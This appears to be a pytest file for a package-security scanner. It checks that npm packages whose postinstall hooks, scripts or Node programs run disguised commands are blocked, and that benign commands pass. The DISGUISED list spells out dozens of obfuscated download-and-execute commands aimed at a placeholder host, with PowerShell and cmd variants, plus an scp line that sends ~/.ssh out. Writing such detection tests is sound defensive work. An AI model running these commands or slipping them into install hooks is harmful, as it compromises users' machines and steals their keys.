"""Commands that a shell has to work out first: as a hook, in a script, from a program; and honest ones."""

import json
import sys
from pathlib import Path

import pytest

from ostiary.core.scale import Decision
from ostiary.program.shell.unfolding import unfolded

sys.path.insert(0, str(Path(__file__).parents[1] / "efficacy"))
from packages import decide

A = "https://a.example.invalid/x"

DISGUISED = [
    f"c=cu; r=rl; $c$r -s {A} | sh",
    rf"$(printf '\143\165\162\154') -s {A} | sh",
    f'x=$(curl -s {A}); eval "$x"',
    f"curl -s {A} | xargs -0 sh -c",
    f"curl -s {A} | (sh)",
    f'curl -s {A} | while read l; do eval "$l"; done',
    f'while read l; do eval "$l"; done < <(curl -s {A})',
    f"f() {{ sh; }}; curl -s {A} | f",
    f"f() {{ curl -s $1 | $2; }}; f {A} sh",
    f"alias g='curl -s {A}'; g | sh",
    f"curl -s {A} | timeout 9 sh",
    "echo 'phey -f uggcf://n.rknzcyr.vainyvq/k | fu' | tr 'a-z' 'n-za-m' | sh",
    rf'printf "\x63\x75\x72\x6c -s {A} | sh" | sh',
    rf"$'\x63url' -s {A} | $'\x73h'",
    f'a=(c u r l); "${{a[0]}}${{a[1]}}${{a[2]}}${{a[3]}}" -s {A} | sh',
    f"x=xcurlx; ${{x:1:4}} -s {A} | sh",
    f"x=CURL; ${{x,,}} -s {A} | sh",
    f"for i in c u r l; do x=$x$i; done; $x -s {A} | sh",
    f"{{curl,-s,{A}}} | sh",
    f"/usr/bin/cur? -s {A} | sh",
    f"cat > /tmp/a <<E\ncurl -s {A} | sh\nE\nsh /tmp/a",
    f"sh <<'E'\ncurl -s {A} | sh\nE",
    f"x=curl; if true; then x=ls; fi; $x -s {A} | sh",
    f"trap 'curl -s {A} | sh' EXIT",
    f"npx -y {A}",
    f"cmd='curl -s {A}'; $cmd | sh",
    f"# powershell\nc=cu; r=rl; $c$r -s {A} | sh",
    f'curl -s {A} | {{ read -ra a; eval "${{a[@]}}"; }}',
    f"powershell -c \"&('i'+'ex') (&('iw'+'r') {A})\"",
    f"powershell -c \"&($env:ComSpec[4,15,25] -join '') (iwr {A})\"",
    f'cmd /v /c "set a=lruc&& !a:~3,1!!a:~2,1!!a:~1,1!!a:~0,1! -o a.exe {A} & a.exe"',
    f"bash -c '$0 -s $1 | $2' curl {A} sh",
    f"declare -A m=([a]=curl [b]=sh); ${{m[a]}} -s {A} | ${{m[b]}}",
    f"$(which curl) -s {A} | $(command -v sh)",
    f"curl -s {A} | tee >(sh) > /dev/null",
    f"git clone {A} tool; cd tool; make",
    "scp user@a.example.invalid:x /tmp/x; sh /tmp/x",
    "openssl s_client -quiet -connect a.example.invalid:443 | sh",
    "scp -r ~/.ssh u@a.example.invalid:",
]
PLACES = ["hook", "script", "program"]


def _package(command: str, place: str) -> Decision:
    hook = {"hook": command, "script": "sh ./set_up.sh", "program": "node set_up.js"}[place]
    manifest = {
        "name": "sample",
        "version": "1.0.0",
        "license": "MIT",
        "main": "index.js",
        "scripts": {"postinstall": hook},
    }
    files = {"package.json": json.dumps(manifest), "index.js": "module.exports = 1\n"}
    if place == "script":
        files["set_up.sh"] = f"#!/bin/bash\nset -e\n{command}\n"
    if place == "program":
        files["set_up.js"] = f"require('child_process').execSync({json.dumps(command)})\n"
    members = [(name, text.encode()) for name, text in files.items()]
    return decide("npm", members).decision


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("command", DISGUISED)
def test_what_it_comes_to_decides(command: str, place: str) -> None:
    assert _package(command, place) is Decision.BLOCK


HONEST = [
    'd=$(dirname "$0"); cd "$d" && test -f build.js && node build.js',
    "for f in a b c; do echo $f; done; x=${npm_config_arch:-x64}; echo $x | tr a-z A-Z",
    'if [ "$(uname -s)" = Darwin ]; then v=mac; else v=other; fi; echo "$v"',
    "printf '%s\\n' 'thank you' | sed 's/you/all/'",
]


@pytest.mark.parametrize("command", HONEST)
def test_what_says_and_asks_only_hides_nothing(command: str) -> None:
    found = [text for _, text in unfolded(command.encode()).statements]
    assert not [one for one in found if "echo" not in one and "cd" not in one]
    assert _package(command, "script") < Decision.BLOCK
